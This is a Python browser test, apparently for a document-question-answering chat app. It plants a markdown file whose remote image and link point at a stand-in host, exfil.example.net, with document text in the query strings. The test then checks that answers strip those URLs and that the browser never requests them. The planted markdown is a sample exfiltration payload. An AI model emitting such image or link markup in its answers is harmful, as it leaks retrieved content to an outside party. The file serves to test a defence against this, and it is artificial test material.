"""Exfiltration through rendered answers (issue 20), in Chromium against a live server: a document
carries a remote image and a data-carrying link aimed at an outside host; an answer quoting it is
shown in the chat, and the browser never contacts that host (every request leaving 127.0.0.1 is
recorded and aborted), while the API's answer says what was taken out."""

from __future__ import annotations

from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import expect

from .conftest import shot

DOC = ("# Visitor badges\n\nVisitor badges are printed at the reception desk on the ground floor "
       "![badge](https://exfil.example.net/p.png?d=visitor+badges) and see "
       "[the form](https://exfil.example.net/c?q=reception) for group visits.\n\n"
       "Badges must be returned at the exit turnstile.\n")
QUESTION = "Where are visitor badges printed?"


@pytest.fixture(scope="module")
def planted(live, tmp_path_factory):
    server, keys = live
    path = tmp_path_factory.mktemp("exfil") / "badges.md"
    path.write_text(DOC, encoding="utf-8")
    batch = server.engine.enqueue_ingest([path], collection="facilities", acl=["public"], owner="eve")
    server.engine.work(batch_id=batch.batch_id)
    return server, keys


def test_an_answer_quoting_a_remote_image_never_loads_it(planted, new_page):
    server, keys = planted
    api = httpx.post(server.url + "/v1/ask", headers={"Authorization": f"Bearer {keys['eve']}"},
                     json={"question": QUESTION}, timeout=120).json()
    answer = api["answer"]
    body = [answer["text"], *(c["quote"] for c in answer["citations"])]
    assert any("reception desk" in t for t in body), answer  # the planted passage was used
    assert all("exfil.example.net" not in t for t in body), answer
    assert any(r.startswith("sanitised:exfiltration") for r in answer["reasons"]), answer["reasons"]

    page = new_page("eve")
    outside: list[str] = []

    def route(r):
        host = urlsplit(r.request.url).hostname
        if host not in ("127.0.0.1", "localhost"):
            outside.append(r.request.url)
            return r.abort()
        return r.continue_()

    page.context.route("**/*", route)
    box = page.get_by_label("Question")
    box.fill(QUESTION)
    box.press("Enter")
    expect(page.get_by_test_id("answer")).to_contain_text("reception", timeout=60_000)
    page.wait_for_timeout(500)
    assert outside == []
    assert page.locator("img[src*='exfil.example.net'], a[href*='exfil.example.net']").count() == 0
    assert "exfil.example.net" not in page.content()
    shot(page, "chat-exfiltration-defanged")
